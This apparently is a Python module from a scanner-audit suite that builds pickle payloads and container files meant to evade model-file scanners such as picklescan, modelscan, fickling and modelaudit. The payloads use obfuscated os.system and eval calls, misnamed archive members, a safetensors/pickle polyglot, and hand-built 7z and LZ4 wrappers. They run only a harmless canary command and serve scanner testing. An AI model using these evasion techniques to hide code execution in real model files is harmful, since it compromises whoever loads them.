"""Ways to put a call, and files to put it in, that a scanner's own reading lost."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

from audit import corpus
from audit.bypass import HIDDEN, Bypass
from audit.bypass import named as file
from audit.corpus import call, named, stacked, stream, word

from modelscan_bd.grades import Severity


def forms(canary: Path) -> dict[str, bytes]:
    """Pickles; Python runs each of them."""
    command = f"touch {canary}"
    touch, old = word(command), f"(S'{command}'\nt".encode()
    system = call("os.system", touch)
    return {
        **_lost_names(system, old),
        **_lost_calls(system, touch, command),
        "Sour Pickles": _compiled(f'open("{canary}", "w")'),
        "sys.modules replaced": _replaced(old),
        "CVE-2025-10155 protocol 0 in a .bin": b"cposix\nsystem\n" + old + b"R.",
        "picklescan cut off in a text": b"cposix\nsystem\n" + old + b"RX.",
        "by a bound method": stream(
            call(call("builtins.getattr", call("builtins.__import__", word("os")), word("system")), touch)
        ),
        "by a call in a call": stream(call("builtins.eval", call("builtins.str", word(f"open('{canary}', 'w')")))),
    }


def _lost_names(system: bytes, old: bytes) -> dict[str, bytes]:
    os = b"\x8c\x02os"
    decoys = b"Vcollections\np0\n0VOrderedDict\np1\n0"
    return {
        "GHSA-9gvj-pp9x-gcfr names as protocol 0 texts": b"S'os'\nS'system'\n\x93" + old + b"R.",
        "picklescan#22 names by their numbers": decoys + b"Vsystem\np4\n0Vos\np9\n0g9\ng4\n\x93" + old + b"R.",
        "picklescan a number that nothing is stored under": stream(system + b"0" + os + b"\x94h\x03h\x00\x93", 4),
        "picklescan a name that is a number": stream(system + b"0K\x2a\x94" + os + b"\x94h\x00h\x01\x93", 4),
        "modelscan#85 names kept in a class": _kept(old),
        "modelaudit#1524 long names": stream(_long("os") + _long("system") + b"\x93" + old + b"R", 4),
        "GHSA-5j3x-jp52-966f a dotted name": stream(stacked("pty", "os.system") + old + b"R", 4),
        "a dotted name without a stack": stream(b"cpty\nos.system\n" + old + b"R", 4),
    }


def _lost_calls(system: bytes, touch: bytes, command: str) -> dict[str, bytes]:
    return {
        "GHSA-mxhj-88fx-4pcv an object that is popped": stream(b"(" + named("os.system") + touch + b"o0N"),
        "fickling#108 an object that is kept": b"(cos\nsystem\nS'" + command.encode() + b"'\no.",
        "fickling#322 behind a float": b"F1.0\n0" + system + b".",
        "fickling#322 behind a bytearray": stream(b"\x96\3\0\0\0\0\0\0\0abc0" + system, 5),
        "modelaudit#1853 behind a long text": stream(word("x" * 2**21) + b"0" + system),
        "protocol said thrice": b"\x80\x02\x80\x04\x80\x00" + system + b".",
        "in a list's items": stream(b"](" + system + system + b"e"),
    }


def _kept(arguments: bytes) -> bytes:
    """Names set as attributes of a class that is allowed, and read back as names in that class."""
    counter = b"ccollections\nCounter\n"
    kept = counter + b"N(Vmodule\nVos\nVname\nVsystem\nd\x86b0"
    return stream(kept + counter[:-1] + b".module\n" + counter[:-1] + b".name\n\x93" + arguments + b"R", 4)


def _long(text: str) -> bytes:
    return b"\x8d" + struct.pack("<Q", len(text)) + text.encode()


def _compiled(source: str) -> bytes:
    return b"c__builtin__\ncompile\n(S'" + source.encode() + b"'\nS''\nS'eval'\ntRp0\n0c__builtin__\neval\n(g0\ntR."


def _replaced(arguments: bytes) -> bytes:
    """First sys is replaced by sys.modules, so that sys.get gives os, and then by os."""
    modules = b"csys\nmodules\np0\nS'sys'\ng0\ns0"
    return modules + b"csys\nget\n(S'os'\ntRp1\n0g0\nS'sys'\ng1\ns0csys\nsystem\n" + arguments + b"R."


def containers(system: bytes) -> dict[str, Bypass]:
    shell, innocent = stream(system), stream(b"}")
    zips = {
        "a pickle named config.json": {"a/data.pkl": innocent, "a/config.json": shell},
        "a second folder": {"a/data.pkl": innocent, "b/data.pkl": shell},
        "capital letters": {"a/data.pkl": innocent, "a/DATA.PKL": shell},
        "modelaudit#1654 a storage that nothing refers to": {"a/data.pkl": innocent, "a/data/7": shell},
        "TorchScript without its constants": {"a/code/net.py": b"class Net(Module):\n  pass\n", "a/data.pkl": shell},
        "a torch.package": {"p/.data/extern_modules": b"os\n", "p/model/model.pkl": shell},
        "modelscan#262 Keras weights": {"config.json": b"{}", "model.weights.npz": shell},
    }
    others = {
        "a pickle named .onnx": file("model.onnx", shell),
        "a pickle named .safetensors": file("model.safetensors", shell),
        "a pickle named .png": file("picture.png", shell),
        "modelaudit#1612 safetensors and pickle at once": file("model.safetensors", polyglot(system)),
    }
    stored = {"nullifAI 7z": file("model.pt", seven_zip(shell)), "LZ4 by joblib": file("model.joblib", lz4(shell))}
    return {
        **{name: Bypass(sample=file("model.pt", corpus.archive(members))) for name, members in zips.items()},
        **{name: Bypass(sample=sample) for name, sample in others.items()},
        **{name: Bypass(sample=sample, rule=HIDDEN, severity=Severity.HIGH) for name, sample in stored.items()},
    }


def polyglot(body: bytes) -> bytes:
    """Good safetensors whose header's length begins a number for the unpickler, which texts then lead to the data."""
    length, start = 0x208A, 34  # LONG1 of 32 bytes: the unpickler goes on at byte 34
    head = b'{"__metadata__":{"n":"'.ljust(start - 8, b"x")
    text = bytearray()
    while (left := length - (start - 8) - len(text)) > 124 + 40:
        text += b"Uz" + b"x" * 122
    tail = b'"},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(body) + 1, len(body) + 1)
    rest = left - 2
    text += b"U" + bytes([rest]) + b"x" * (rest - len(tail)) + tail
    return struct.pack("<Q", length) + head + bytes(text) + body + b"."


def seven_zip(content: bytes) -> bytes:
    """One stored member."""

    def size(value: int) -> bytes:
        return bytes([0x80 | value >> 8, value & 0xFF])

    packed = b"\x06\0\x01\x09" + size(len(content)) + b"\0"
    folder = b"\x07\x0b\x01\0\x01\x01\0\x0c" + size(len(content)) + b"\0"
    sums = b"\x08\x0a\x01" + struct.pack("<L", zlib.crc32(content)) + b"\0"
    names = b"\0" + "data.pkl\0".encode("utf-16-le")
    header = b"\x01\x04" + packed + folder + sums + b"\0\x05\x01\x11" + bytes([len(names)]) + names + b"\0\0"
    start = struct.pack("<QQL", len(content), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<L", zlib.crc32(start)) + start + content + header


def lz4(content: bytes) -> bytes:
    """One stored block. The header's checksum is that of these flags."""
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<L", 2**31 | len(content)) + content + bytes(4)
